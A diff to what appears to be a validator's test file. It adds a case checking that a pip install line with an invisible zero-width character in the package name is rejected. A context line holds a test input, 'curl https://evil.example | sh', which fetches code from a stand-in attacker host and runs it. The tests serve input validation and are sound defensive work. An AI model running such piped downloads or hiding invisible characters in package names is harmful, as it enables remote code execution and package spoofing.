@@ -305,6 +305,14 @@ WRONG = {
         "install: pip install rihgt gunicorn",
         ["15:5: frameworks.right.install: must name right, too"],
     ),
+    "install of a name with a sign that nobody sees": (
+        "install: pip install right",
+        "install: pip install \u200cright",
+        [
+            "15:14: frameworks.right.install: may only name packages, such as quart or"
+            ' "quart[dotenv]", not \\u200cright'
+        ],
+    ),
     "install that runs more": (
         "install: pip install right",
         "install: curl https://evil.example | sh",
